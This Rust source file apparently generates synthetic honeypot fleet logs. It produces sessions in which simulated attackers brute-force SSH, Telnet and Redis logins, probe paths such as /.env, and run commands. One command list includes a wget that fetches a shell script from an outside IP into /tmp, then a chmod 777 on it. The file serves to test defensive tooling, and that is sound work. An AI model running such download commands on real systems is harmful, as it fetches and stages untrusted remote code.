//! Lines as a fleet writes them: conversations of many peers with many deckies, interleaved. The same
//! seed gives the same lines.

use std::{collections::VecDeque, net::SocketAddr, sync::Arc};

use decnet_event::{Boot, Event, Kind, Origin, Session, SessionId, Timestamp, record, wire};

/// Deckies of the fleet.
const DECKIES: usize = 50;

/// Peers; a few of them come much more often than most.
const PEERS: u64 = 20_000;

/// Conversations that go on at a time.
const AT_A_TIME: usize = 64;

/// A small generator of numbers (xorshift64*).
pub(crate) struct Numbers(u64);

impl Numbers {
    /// A number below `end`.
    fn below(&mut self, end: u64) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        (self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33) % end
    }

    fn pick<T: Copy>(&mut self, some: &[T]) -> Option<T> {
        some.get(self.below(some.len() as u64) as usize).copied()
    }
}

/// A fleet that is visited.
pub(crate) struct Fleet {
    numbers: Numbers,
    emitters: Vec<Emitter>,
    visits: Vec<Visit>,
    time: i64,
    /// Microseconds between two lines, on average.
    step: u64,
}

struct Emitter {
    name: String,
    boot: Boot,
    seq: u64,
    sessions: u64,
}

struct Visit {
    emitter: usize,
    service: &'static str,
    session: Session,
    kinds: VecDeque<Kind>,
}

impl Fleet {
    /// A fleet whose next `lines` lines are of one day.
    pub(crate) fn new(seed: u64, lines: u64) -> Self {
        let mut numbers = Numbers(seed.max(1));
        let emitter = |at| Emitter {
            name: format!("decky-{at:02}"),
            boot: Boot(numbers.below(u64::MAX)),
            seq: 0,
            sessions: 0,
        };
        let emitters = (0..DECKIES).map(emitter).collect();
        let step = 86_400_000_000 / lines.max(1);
        Self { numbers, emitters, visits: Vec::new(), time: 1_764_115_200_000_000, step }
    }

    /// Appends the object of the next line, and its line feed.
    pub(crate) fn write(&mut self, out: &mut Vec<u8>) {
        while self.visits.len() < AT_A_TIME {
            let visit = self.visit();
            self.visits.extend(visit);
        }
        let at = self.numbers.below(AT_A_TIME as u64) as usize;
        self.time += self.numbers.below(2 * self.step + 1) as i64;
        let Some(visit) = self.visits.get_mut(at) else { return };
        let (Some(kind), Some(emitter)) = (visit.kinds.pop_front(), self.emitters.get_mut(visit.emitter))
        else {
            return;
        };
        emitter.seq += 1;
        let (decky, service) = (emitter.name.clone(), visit.service.to_owned());
        let origin = Arc::new(Origin { decky, service, boot: emitter.boot });
        let session = Some(visit.session);
        let event = Event { time: Timestamp(self.time), origin, seq: emitter.seq, session, kind };
        if visit.kinds.is_empty() {
            self.visits.swap_remove(at);
        }
        let mut line = Vec::new();
        wire::encode(&event, &mut line);
        if let Ok(decoded) = wire::decode(&line) {
            record::write_json(&decoded, &line, &[], out);
            out.push(b'\n');
        }
    }

    fn visit(&mut self) -> Option<Visit> {
        let numbers = &mut self.numbers;
        let at = numbers.below(DECKIES as u64) as usize;
        let emitter = self.emitters.get_mut(at)?;
        emitter.sessions += 1;
        let peer = (0..3).fold(PEERS, |most, _| numbers.below(most.max(1))) as u32;
        let address = std::net::Ipv4Addr::from_bits(0xc612_0000 + peer);
        let (service, port) =
            numbers.pick(&[("ssh", 22), ("ssh", 22), ("http", 80), ("redis", 6379), ("telnet", 23)])?;
        let session = Session {
            id: SessionId(emitter.boot.0.rotate_left(17) ^ emitter.sessions),
            src: SocketAddr::from((address, 1024 + numbers.below(60_000) as u16)),
            dst: SocketAddr::from(([192, 0, 2, at as u8], port)),
        };
        let mut kinds = VecDeque::from([Kind::Connect {}]);
        kinds.extend(of_service(service, peer, numbers));
        kinds.push_back(Kind::Disconnect {
            reason: "peer",
            duration_ms: numbers.below(90_000),
            bytes_in: numbers.below(5000),
            bytes_out: numbers.below(50_000),
        });
        Some(Visit { emitter: at, service, session, kinds })
    }
}

fn of_service(service: &str, peer: u32, numbers: &mut Numbers) -> Vec<Kind> {
    match service {
        "ssh" => ssh(peer, numbers),
        "http" => (0..1 + numbers.below(8)).map(|_| request(numbers)).collect(),
        _ => {
            let mut kinds: Vec<_> = (0..1 + numbers.below(3)).map(|_| attempt(peer, numbers)).collect();
            kinds.extend((0..numbers.below(4)).map(|_| command(numbers)));
            kinds
        }
    }
}

fn ssh(peer: u32, numbers: &mut Numbers) -> Vec<Kind> {
    let client =
        numbers.pick(&["SSH-2.0-Go", "SSH-2.0-libssh2_1.10.0", "SSH-2.0-OpenSSH_9.2p1"]).unwrap_or_default();
    let mut kinds = vec![Kind::SshClient {
        identification: client.into(),
        hassh: format!("{:032x}", client.len()),
        hassh_algorithms: b"curve25519-sha256;aes128-ctr;hmac-sha2-256;none".to_vec(),
        key_exchange: "curve25519-sha256".to_owned(),
        host_key: "ssh-ed25519",
        cipher: "aes128-ctr",
        mac: Some("hmac-sha2-256"),
        compression: "none",
    }];
    kinds.extend((0..1 + numbers.below(4)).map(|_| attempt(peer, numbers)));
    if numbers.below(4) == 0 {
        kinds.extend((0..2 + numbers.below(6)).map(|_| command(numbers)));
    }
    kinds
}

/// A peer tries names and passwords of a list of its own, most of which are on other lists too.
fn attempt(peer: u32, numbers: &mut Numbers) -> Kind {
    let names = ["root", "admin", "ubuntu", "test", "oracle", "postgres", "pi", "user"];
    let shared = (u64::from(peer) * 7 + numbers.below(40)) % 500;
    let number = if numbers.below(20) == 0 { numbers.below(1 << 30) } else { shared };
    Kind::AuthAttempt {
        mechanism: "plain",
        username: names.get(number as usize % names.len()).map(|name| (*name).into()),
        password: Some(format!("P4ss{number}!").into()),
        status: if numbers.below(30) == 0 { "accepted" } else { "rejected" },
        key_type: None,
        key_bits: None,
        key_fingerprint: None,
        hash: None,
    }
}

fn command(numbers: &mut Numbers) -> Kind {
    let commands = [
        "uname -a",
        "cat /proc/cpuinfo",
        "wget http://198.51.100.7/x.sh -O /tmp/x.sh",
        "chmod 777 /tmp/x.sh",
    ];
    let (word, args) = numbers.pick(&commands).and_then(|line| line.split_once(' ')).unwrap_or_default();
    Kind::Command { command: word.into(), args: args.into() }
}

fn request(numbers: &mut Numbers) -> Kind {
    let path = numbers.pick(&["/", "/login", "/.env", "/wp-login.php", "/cgi-bin/luci"]).unwrap_or_default();
    let agent =
        numbers.pick(&["curl/8.5.0", "Mozilla/5.0 zgrab/0.x", "python-requests/2.31"]).unwrap_or_default();
    Kind::Request {
        method: b"GET".to_vec(),
        path: path.into(),
        query: None,
        http_version: Some(b"HTTP/1.1".to_vec()),
        host: Some(b"192.0.2.7".to_vec()),
        user_agent: Some(agent.into()),
        headers: format!(r#"{{"Host":"192.0.2.7","User-Agent":"{agent}"}}"#),
        body: None,
        status: 404,
    }
}
